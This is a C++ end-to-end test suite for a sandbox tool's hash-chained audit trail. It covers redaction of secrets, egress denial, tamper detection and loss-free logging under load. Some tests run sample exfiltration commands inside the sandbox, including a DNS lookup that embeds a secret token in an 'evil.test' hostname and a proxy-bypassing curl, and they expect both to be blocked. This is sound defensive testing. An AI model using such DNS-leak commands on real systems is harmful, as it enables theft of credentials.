// The audit trail end to end: kmd and km as a user runs them, a real sandbox with an enforcer,
// and every source of events (the exec audit, the DNS filter, the egress proxy and the kernel
// gate, lifecycle and budget notices, km shell sessions) arriving redacted in one hash-chained
// trail that `km logs` shows, follows and verifies; then a load test of the audit path.
#include <gtest/gtest.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <functional>
#include <map>
#include <set>
#include <sstream>
#include <thread>

#include <nlohmann/json.hpp>

#include "../cli/run.h"
#include "km/base/file.h"

namespace {

using km::testing::run;
using km::testing::RunResult;
using Json = nlohmann::json;
using namespace std::chrono_literals;

// A literal secret in the sandbox's environment: it must never reach the trail.
constexpr const char* kSecret = "sekret-4f9c2a77d1e0";

class Logs : public ::testing::Test {
 protected:
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "e2e test: kmd needs root";
    char tmpl[] = "/tmp/km-logs-e2e-XXXXXX";
    root_ = ::mkdtemp(tmpl);
    ::chmod(root_.c_str(), 0711);
    socket_ = root_ + "/run/kmd.sock";
    cgroup_ = "km-logs-e2e-" + std::to_string(::getpid());
  }
  void TearDown() override {
    if (root_.empty()) return;
    if (pid_ > 0) {
      auto l = km({"-o", "json", "list"});
      if (l.status == 0) {
        for (const auto& s : Json::parse(l.out)) km({"unlock", s["id"]}), km({"destroy", s["id"]});
      }
      stop_kmd();
    }
    std::system(("umount -l '" + root_ + "/run/bpf' 2>/dev/null; rm -rf '" + root_ + "'").c_str());
    std::system(("for i in $(seq 50); do rmdir /sys/fs/cgroup/*/" + cgroup_ + " 2>/dev/null; "
                 "ls -d /sys/fs/cgroup/*/" + cgroup_ + " >/dev/null 2>&1 || break; sleep 0.1; done").c_str());
  }

  void start_kmd(const std::string& extra_config = "") {
    // Enforcers need an upstream resolver configured; these tests only send denied names.
    std::ofstream(root_ + "/kmd.yaml") << "upstreamDNS: [\"198.51.100.53\"]\n" << extra_config;
    pid_ = ::fork();
    if (pid_ == 0) {
      int fd = ::open((root_ + "/kmd.log").c_str(), O_WRONLY | O_CREAT | O_APPEND, 0600);
      ::dup2(fd, 1);
      ::dup2(fd, 2);
      ::execl(KMD_BIN, "kmd", "--foreground", "--config", (root_ + "/kmd.yaml").c_str(), "--state-dir", (root_ + "/state").c_str(),
              "--runtime-dir", (root_ + "/run").c_str(), "--group", "", "--cgroup-name", cgroup_.c_str(), nullptr);
      _exit(127);
    }
    for (int i = 0; i < 500; ++i) {
      if (::access(socket_.c_str(), F_OK) == 0 && km({"list"}).status == 0) return;
      std::this_thread::sleep_for(10ms);
    }
    FAIL() << "kmd did not come up: " << km::read_file(root_ + "/kmd.log", 1 << 20).value_or("");
  }
  void stop_kmd() {
    ::kill(pid_, SIGTERM);
    ::waitpid(pid_, nullptr, 0);
    pid_ = -1;
  }
  RunResult km(std::vector<std::string> args, const std::string& input = "") {
    args.insert(args.begin(), KM_BIN);
    return run(args, {{"KM_SOCKET", socket_}}, input);
  }
  std::string create(const std::string& yaml) {
    std::ofstream(root_ + "/p.yaml") << yaml;
    auto r = km({"create", root_ + "/p.yaml"});
    EXPECT_EQ(r.status, 0) << r.err;
    return r.out.substr(0, r.out.find('\n'));
  }
  // The trail as km logs -o json prints it (one event per line).
  std::vector<Json> logs(const std::string& id, std::vector<std::string> extra = {}) {
    std::vector<std::string> args = {"-o", "json", "logs", id, "-n", "100000"};
    args.insert(args.end(), extra.begin(), extra.end());
    auto r = km(args);
    EXPECT_EQ(r.status, 0) << r.err;
    std::vector<Json> out;
    std::istringstream in(r.out);
    std::string line;
    while (std::getline(in, line)) out.push_back(Json::parse(line, nullptr, false));
    return out;
  }
  static std::string kind_of(const Json& e) {
    return e["detail"].contains("kind") && e["detail"]["kind"].is_string() ? e["detail"]["kind"].get<std::string>()
                                                                            : e["type"].get<std::string>();
  }
  // Waits (bounded) until `done` holds for the sandbox's trail.
  std::vector<Json> wait_logs(const std::string& id, const std::function<bool(const std::vector<Json>&)>& done,
                              std::vector<std::string> extra = {}, std::chrono::seconds limit = 30s) {
    std::vector<Json> events;
    for (auto deadline = std::chrono::steady_clock::now() + limit; std::chrono::steady_clock::now() < deadline;) {
      events = logs(id, extra);
      if (done(events)) break;
      std::this_thread::sleep_for(100ms);
    }
    return events;
  }
  // Every byte of the sandbox's trail files (plain or compressed), for what must not be there.
  std::string trail_bytes(const std::string& dir) {
    auto r = run({"/bin/sh", "-c", "cd '" + dir + "' && for f in events-*; do case $f in *.gz) zcat \"$f\";; *) cat \"$f\";; esac; done"}, {});
    return r.out;
  }

  std::string root_, socket_, cgroup_;
  pid_t pid_ = -1;
};

// A sandbox with egress (so it has an enforcer), a secret in its environment and a compute
// budget whose warning comes after about a second of running: $18 an hour is 5,000 µ$ a
// second, and the warning is at 0.5% of $1.
std::string profile(const std::string& mode) {
  return "apiVersion: klankermaker.ai/v1alpha2\nkind: SandboxProfile\n"
         "metadata: {name: logs, prefix: lg}\nextends: quickstart\n"
         "spec:\n"
         "  execution:\n    env: {API_TOKEN: \"" + std::string(kSecret) + "\", GREETING: hello}\n"
         "  network:\n    enforcement: " + mode + "\n    egress: {allowedDNSSuffixes: [.allowed.test]}\n"
         "  budget:\n    compute: {maxSpendUSD: 1, ratePerHourUSD: 18}\n    warningThreshold: 0.005\n";
}

TEST_F(Logs, EverySourceArrivesRedactedInOneVerifiedChainThatShowsTampering) {
  start_kmd();
  std::string id = create(profile("proxy"));
  ASSERT_FALSE(id.empty());
  // A command (exec), with the secret on its command line.
  ASSERT_EQ(km({"exec", id, "--", "sh", "-c", "/bin/true marker-exec $API_TOKEN"}).status, 0);
  // A DNS lookup of a denied name that carries the secret (dns), and a denied connection (net).
  km({"exec", id, "--", "sh", "-c", "getent hosts $API_TOKEN.evil.test; curl -sS -m 5 --noproxy '*' http://203.0.113.99/ -o /dev/null"});
  // A recorded shell session (session).
  auto sh = km({"shell", "--record", id}, "echo shell-says-$((6*7)); echo typed-$API_TOKEN; exit 3\n");
  EXPECT_EQ(sh.status, 3) << sh.err;
  EXPECT_NE(sh.out.find("shell-says-42"), std::string::npos);

  auto has = [](const std::vector<Json>& all, const std::string& type, const std::string& kind) {
    return std::any_of(all.begin(), all.end(), [&](const Json& e) { return e["type"] == type && kind_of(e) == kind; });
  };
  auto events = wait_logs(id, [&](const std::vector<Json>& all) {
    return has(all, "exec", "exec") && has(all, "dns", "dns") && has(all, "net", "connect") && has(all, "session", "end") &&
           has(all, "budget", "budget-warning") && has(all, "lifecycle", "started");
  });
  EXPECT_TRUE(has(events, "lifecycle", "created"));
  EXPECT_TRUE(has(events, "lifecycle", "started"));
  EXPECT_TRUE(has(events, "budget", "budget-warning"));
  EXPECT_TRUE(has(events, "session", "start"));
  EXPECT_TRUE(has(events, "session", "output"));
  EXPECT_TRUE(has(events, "session", "input"));
  uint64_t seq = 0;
  bool marker = false, dns = false, denied = false, shell_out = false;
  for (const auto& e : events) {
    EXPECT_EQ(e["seq"], ++seq);  // one sequence, every source
    EXPECT_EQ(e["sandbox"], id);
    const Json& d = e["detail"];
    if (e["type"] == "exec" && d["argv"][0] == "/bin/true" && d["argv"].dump().find("marker-exec") != std::string::npos) {
      marker = true;
      EXPECT_EQ(e["source"], "kernel");
      EXPECT_NE(d["argv"].dump().find("[REDACTED:"), std::string::npos) << d.dump();
    }
    if (e["type"] == "dns" && d.value("name", "").find(".evil.test") != std::string::npos) {
      dns = true;
      EXPECT_EQ(e["source"], "enforcer");
      EXPECT_EQ(d["verdict"], "deny");
    }
    if (e["type"] == "net" && d.value("addr", "") == "203.0.113.99") denied = d["verdict"] == "deny";
    if (e["type"] == "session" && d.value("data", "").find("shell-says-42") != std::string::npos) shell_out = true;
  }
  EXPECT_TRUE(marker);
  EXPECT_TRUE(dns);
  EXPECT_TRUE(denied);
  EXPECT_TRUE(shell_out);
  // Redacted before storage: the secret is nowhere in the trail's files.
  std::string dir = root_ + "/state/sandboxes/" + id + "/audit";
  std::string bytes = trail_bytes(dir);
  ASSERT_FALSE(bytes.empty());
  EXPECT_EQ(bytes.find(kSecret), std::string::npos);
  EXPECT_NE(bytes.find("[REDACTED:"), std::string::npos);

  // Filters and text output.
  auto only_dns = logs(id, {"--type", "dns"});
  ASSERT_FALSE(only_dns.empty());
  for (const auto& e : only_dns) EXPECT_EQ(e["type"], "dns");
  auto since = logs(id, {"--type", "exec,net", "--since", "10m"});
  for (const auto& e : since) EXPECT_TRUE(e["type"] == "exec" || e["type"] == "net");
  EXPECT_TRUE(logs(id, {"--since", "2000-01-01T00:00:00Z", "--type", "lifecycle"}).size() >= 2);
  auto text = km({"logs", id, "--type", "session"});
  EXPECT_EQ(text.status, 0);
  EXPECT_NE(text.out.find("\"echo shell-says-$((6*7)); echo typed-$API_TOKEN; exit 3\\n\""), std::string::npos) << text.out;
  EXPECT_NE(text.out.find("ended: exit 3"), std::string::npos) << text.out;
  auto status = km({"status", id});
  EXPECT_NE(status.out.find("0 dropped"), std::string::npos) << status.out;
  // km audit still shows commands and egress verdicts, from the trail.
  auto audit = km({"-o", "json", "audit", id, "--kind", "dns"});
  ASSERT_EQ(audit.status, 0) << audit.err;
  auto flat = Json::parse(audit.out);
  ASSERT_FALSE(flat.empty());
  EXPECT_EQ(flat.back()["kind"], "dns");

  // The chain verifies; an edited event is named.
  auto v = km({"logs", id, "--verify"});
  EXPECT_EQ(v.status, 0) << v.out << v.err;
  EXPECT_EQ(v.out.rfind("chain intact: ", 0), 0u) << v.out;
  std::string file = dir + "/events-1.jsonl";
  auto content = km::read_file(file, 64 << 20);
  ASSERT_TRUE(content);
  size_t at = content->find("marker-exec");
  ASSERT_NE(at, std::string::npos);
  size_t line_start = content->rfind('\n', at) + 1;
  Json edited = Json::parse(content->substr(line_start, content->find('\n', at) - line_start));
  uint64_t edited_seq = edited["seq"];
  std::string tampered = *content;
  tampered.replace(at, 11, "innocent-xx");
  {
    std::ofstream out(file, std::ios::trunc);  // in place (kmd keeps appending to the same file)
    out << tampered;
  }
  auto broken = km({"logs", id, "--verify"});
  EXPECT_EQ(broken.status, 1) << broken.out;
  EXPECT_NE(broken.out.find("chain broken at event " + std::to_string(edited_seq)), std::string::npos) << broken.out;
  EXPECT_NE(broken.out.find("edited"), std::string::npos) << broken.out;
  {
    std::ofstream out(file, std::ios::trunc);
    out << *content;
  }
  EXPECT_EQ(km({"logs", id, "--verify"}).status, 0);

  // Destroy: the trail is kept with the artifacts and still reads and verifies, to the end.
  ASSERT_EQ(km({"destroy", id}).status, 0);
  EXPECT_NE(::access(dir.c_str(), F_OK), 0);
  EXPECT_FALSE(km::read_file(root_ + "/state/artifacts/" + id + "/audit/events-1.jsonl", 64 << 20).value_or("").empty());
  auto after = logs(id, {"--type", "lifecycle"});
  ASSERT_FALSE(after.empty());
  EXPECT_EQ(kind_of(after.back()), "destroyed");
  auto kept = km({"logs", id, "--verify"});
  EXPECT_EQ(kept.status, 0) << kept.out;
}

TEST_F(Logs, FollowStreamsNewEventsAndAKmdRestartLosesNone) {
  start_kmd();
  std::string id = create(profile("proxy"));
  ASSERT_FALSE(id.empty());
  // km logs --follow in the background, into a file.
  std::string out = root_ + "/follow.out";
  pid_t f = ::fork();
  if (f == 0) {
    int fd = ::open(out.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    ::dup2(fd, 1);
    ::setenv("KM_SOCKET", socket_.c_str(), 1);
    ::execl(KM_BIN, "km", "logs", id.c_str(), "--follow", "--type", "exec", "-o", "json", nullptr);
    _exit(127);
  }
  ASSERT_EQ(km({"exec", id, "--", "sh", "-c", "true follow-one"}).status, 0);
  ASSERT_EQ(km({"exec", id, "--", "sh", "-c", "true follow-two"}).status, 0);
  std::string text;
  for (int i = 0; i < 100 && text.find("follow-two") == std::string::npos; ++i) {
    std::this_thread::sleep_for(100ms);
    text = km::read_file(out, 1 << 20).value_or("");
  }
  ::kill(f, SIGINT);
  ::waitpid(f, nullptr, 0);
  EXPECT_NE(text.find("follow-one"), std::string::npos) << text;
  EXPECT_NE(text.find("follow-two"), std::string::npos) << text;
  // The enforcer's lines wait in its pipe while kmd is down.
  ::kill(pid_, SIGKILL);
  ::waitpid(pid_, nullptr, 0);
  pid_ = -1;
  // (No km exec without kmd; the enforcer still answers DNS for processes already running.)
  start_kmd();
  km({"exec", id, "--", "sh", "-c", "getent hosts after-restart.evil.test"});
  auto events = wait_logs(id, [](const std::vector<Json>& all) {
    return std::any_of(all.begin(), all.end(), [](const Json& e) { return e["detail"].value("name", "") == "after-restart.evil.test"; });
  });
  auto v = km({"logs", id, "--verify"});
  EXPECT_EQ(v.status, 0) << v.out << v.err;
}

// The audit path under load: a command storm and a connection storm in one sandbox. The
// measured rates are printed (see the task report); the assertions are that nothing was lost
// at the rate the storms ran: every command and every refused connection is in the trail, and
// every loss counter is zero.
TEST_F(Logs, CommandAndConnectionStormsLoseNothing) {
  // No rate limit in the enforcer: the storm measures the path, not the limiter.
  start_kmd("auditRateLimit: 0\n");
  std::string id = create(profile("ebpf"));
  ASSERT_FALSE(id.empty());
  auto head = [&] {
    auto st = Json::parse(km({"-o", "json", "status", id}).out, nullptr, false);
    return st.is_object() ? st["audit"].value("head", uint64_t{0}) : uint64_t{0};
  };
  // Waits until the trail holds `n` more events than `from`; the seconds since `t0`.
  auto drained = [&](uint64_t from, uint64_t n, std::chrono::steady_clock::time_point t0) {
    for (auto deadline = std::chrono::steady_clock::now() + 180s; std::chrono::steady_clock::now() < deadline;) {
      if (head() >= from + n) break;
      std::this_thread::sleep_for(50ms);
    }
    return std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  };
  constexpr int kCommands = 20000;
  constexpr int kConnects = 5000;
  // The command storm: four loops of short processes at once.
  uint64_t before = head();
  auto t0 = std::chrono::steady_clock::now();
  auto storm = km({"exec", id, "--", "sh", "-c",
                   "for j in 0 1 2 3; do (i=0; while [ $i -lt " + std::to_string(kCommands / 4) +
                       " ]; do /bin/true storm-$j-$i; i=$((i+1)); done) & done; wait"});
  double exec_ran = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  ASSERT_EQ(storm.status, 0) << storm.err;
  // kCommands + the sh, its four subshells' forks do not exec; the km exec's own sh is one.
  double exec_in_trail = drained(before, kCommands + 1, t0);
  // The connection storm: every connect refused by the kernel (EPERM), as fast as python can.
  before = head();
  auto t1 = std::chrono::steady_clock::now();
  auto conns = km({"exec", id, "--", "python3", "-c",
                   "import socket\n"
                   "n = 0\n"
                   "for i in range(" + std::to_string(kConnects) + "):\n"
                   "  s = socket.socket()\n"
                   "  try:\n"
                   "    s.connect(('203.0.113.99', 1000 + i))\n"
                   "  except PermissionError:\n"
                   "    n += 1\n"
                   "  s.close()\n"
                   "print(n)\n"});
  double net_ran = std::chrono::duration<double>(std::chrono::steady_clock::now() - t1).count();
  ASSERT_EQ(conns.status, 0) << conns.err;
  EXPECT_EQ(conns.out, std::to_string(kConnects) + "\n");
  double net_in_trail = drained(before, kConnects + 1, t1);  // + python's exec
  // Every command and every refusal is in the trail, each once.
  size_t storm_seen = 0, refused_seen = 0;
  std::set<std::string> commands;
  std::set<int64_t> ports;
  for (const auto& e : logs(id, {"--type", "exec,net"})) {
    const Json& d = e["detail"];
    if (e["type"] == "exec" && d["argv"].size() == 2 && d["argv"][1].get<std::string>().rfind("storm-", 0) == 0) {
      ++storm_seen;
      commands.insert(d["argv"][1].get<std::string>());
    }
    if (e["type"] == "net" && d.value("addr", "") == "203.0.113.99") {
      ++refused_seen;
      ports.insert(d.value("port", int64_t{0}));
    }
  }
  auto st = Json::parse(km({"-o", "json", "status", id}).out);
  const Json& c = st["audit"];
  std::printf("[ figures ] command storm: %d commands ran in %.2f s, all in the trail after %.2f s (%.0f exec events/s end to end); "
              "connection storm: %d refused connects in %.2f s, all in the trail after %.2f s (%.0f net events/s end to end); "
              "counters %s\n",
              kCommands, exec_ran, exec_in_trail, kCommands / exec_in_trail, kConnects, net_ran, net_in_trail, kConnects / net_in_trail,
              c.dump().c_str());
  EXPECT_EQ(storm_seen, static_cast<size_t>(kCommands));
  EXPECT_EQ(commands.size(), static_cast<size_t>(kCommands));
  EXPECT_EQ(refused_seen, static_cast<size_t>(kConnects));
  EXPECT_EQ(ports.size(), static_cast<size_t>(kConnects));
  EXPECT_EQ(c["dropped"], 0u);
  EXPECT_EQ(c["suppressed"], 0u);
  EXPECT_EQ(c["truncated"], 0u);
  EXPECT_EQ(c["malformed"], 0u);
  EXPECT_EQ(c["exec_lost"], 0u);
  auto v = km({"logs", id, "--verify"});
  EXPECT_EQ(v.status, 0) << v.out << v.err;
}

}  // namespace
